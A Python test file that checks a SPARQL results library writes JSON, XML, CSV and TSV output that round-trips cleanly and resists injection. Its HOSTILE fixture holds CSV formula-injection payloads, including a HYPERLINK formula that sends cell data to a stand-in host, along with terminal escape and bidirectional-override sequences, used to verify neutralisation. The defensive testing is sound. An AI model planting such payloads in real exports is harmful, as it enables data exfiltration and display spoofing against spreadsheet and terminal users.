"""rolegraph.sparql.results: the W3C result formats parse back (with rdflib's parsers) to the same solutions."""

from __future__ import annotations

import csv
import io
import json

import pytest
from rdflib import BNode, Literal, URIRef
from rdflib.namespace import XSD
from rdflib.query import Result

from rolegraph.sparql.results import ResultTable, boolean_json, boolean_xml, to_csv, to_json, to_tsv, to_xml

TABLE = ResultTable(
    ("s", "label", "n", "missing"),
    (
        (URIRef("http://example.org/a"), Literal('Caf\u00e9, "quoted"\nline', lang="fr"), Literal(42), None),
        (BNode("b1"), Literal("tab\there"), Literal("3.5", datatype=XSD.decimal), Literal("x")),
    ),
)


def parsed(text: str, fmt: str) -> Result:
    return Result.parse(io.StringIO(text), format=fmt)


@pytest.mark.parametrize(("writer", "fmt"), [(to_json, "json"), (to_xml, "xml"), (to_tsv, "tsv")])
def test_typed_formats_round_trip(writer, fmt: str) -> None:  # type: ignore[no-untyped-def]
    result = parsed(writer(TABLE), fmt)
    assert [str(v) for v in result.vars] == list(TABLE.variables)
    rows = [tuple(row) for row in result]
    assert rows[0][:3] == TABLE.rows[0][:3]
    assert rows[0][3] is None
    assert rows[1][1:] == TABLE.rows[1][1:]
    assert isinstance(rows[1][0], BNode)


def test_csv_is_plain_values_with_crlf() -> None:
    text = to_csv(TABLE)
    assert text.startswith("s,label,n,missing\r\n")
    assert 'http://example.org/a,"Caf\u00e9, ""quoted""\nline",42,\r\n' in text
    assert "_:b1" in text


def test_json_leaves_unbound_variables_out() -> None:
    document = json.loads(to_json(TABLE))
    assert document["head"]["vars"] == ["s", "label", "n", "missing"]
    assert "missing" not in document["results"]["bindings"][0]
    assert document["results"]["bindings"][0]["label"] == {
        "type": "literal",
        "value": 'Caf\u00e9, "quoted"\nline',
        "xml:lang": "fr",
    }
    assert document["results"]["bindings"][0]["n"]["datatype"] == str(XSD.integer)


def test_ask_results() -> None:
    assert parsed(boolean_json(True), "json").askAnswer is True
    assert parsed(boolean_xml(False), "xml").askAnswer is False


def test_rows_have_attributes_and_html() -> None:
    row = next(iter(TABLE))
    assert row.n == Literal(42)
    with pytest.raises(AttributeError, match="no variable 'nope'"):
        _ = row.nope
    assert "Caf\u00e9, &quot;quoted&quot;" in TABLE._repr_html_()


HOSTILE = ResultTable(
    ("v",),
    (
        (Literal('=HYPERLINK("http://x.example/?"&A1)'),),
        (Literal("+1+2"),),
        (Literal("-5"),),
        (Literal("-2+3"),),
        (Literal("@SUM(A1)"),),
        (Literal("\tindented"),),
        (Literal("\r=1"),),
        (Literal("ESC \x1b]0;title\x07 CSI \x9b31m NUL \x00 DEL \x7f RLO \u202e end"),),
        (Literal("safe, = later"),),
        (Literal("3.5e-2"),),
    ),
)


def test_csv_cells_never_start_a_formula_and_hold_no_control_characters() -> None:
    cells = [row[0] for row in csv.reader(io.StringIO(to_csv(HOSTILE)))][1:]
    assert cells[:7] == ["'=HYPERLINK(\"http://x.example/?\"&A1)", "'+1+2", "-5", "'-2+3", "'@SUM(A1)", "'\tindented",
                         "'\r=1"]  # fmt: skip
    assert cells[7] == "ESC \ufffd]0;title\ufffd CSI \ufffd31m NUL \ufffd DEL \ufffd RLO \ufffd end"
    assert cells[8:] == ["safe, = later", "3.5e-2"]  # not at the start, or a number: left alone


def test_json_and_tsv_keep_hostile_values_exactly_and_print_no_escape() -> None:
    import pyoxigraph as ox

    for writer in (to_json, to_tsv):
        assert not set(writer(HOSTILE)) & {"\x1b", "\x9b", "\x07", "\x00", "\x7f", "\u202e"}, writer
    assert [tuple(row) for row in parsed(to_json(HOSTILE), "json")] == list(HOSTILE.rows)
    # TSV escapes them as Turtle's \u0000 escapes, which rdflib's TSV parser does not read; Oxigraph's does
    back = ox.parse_query_results(to_tsv(HOSTILE).encode(), format=ox.QueryResultsFormat.TSV)
    assert [solution["v"].value for solution in back] == [str(row[0]) for row in HOSTILE.rows]


def test_xml_stays_well_formed_with_control_characters() -> None:
    import xml.etree.ElementTree as ET

    table = ResultTable(
        ("v", "w"), ((Literal("a\x00b\x1bc\x0bd\ufffee"), Literal("x", datatype=URIRef("http://example.org/t\x01"))),)
    )
    text = to_xml(table)
    root = ET.fromstring(text.encode("utf-8"))  # raises on a document that is not well-formed
    ns = "{http://www.w3.org/2005/sparql-results#}"
    assert root.find(f"{ns}results/{ns}result/{ns}binding/{ns}literal").text == "a\ufffdb\ufffdc\ufffdd\ufffde"  # type: ignore[union-attr]
    assert [str(row[0]) for row in parsed(text, "xml")] == ["a\ufffdb\ufffdc\ufffdd\ufffde"]


def test_lone_surrogates_never_break_a_writer() -> None:
    table = ResultTable(("v",), ((Literal("half \ud83d of a pair"),), (URIRef("http://example.org/\udc00"),)))
    for writer in (to_json, to_xml, to_csv, to_tsv):
        writer(table).encode("utf-8")  # a lone surrogate cannot be encoded: each writer escapes or replaces it
    assert json.loads(to_json(table))["results"]["bindings"][0]["v"]["value"] == "half \ud83d of a pair"
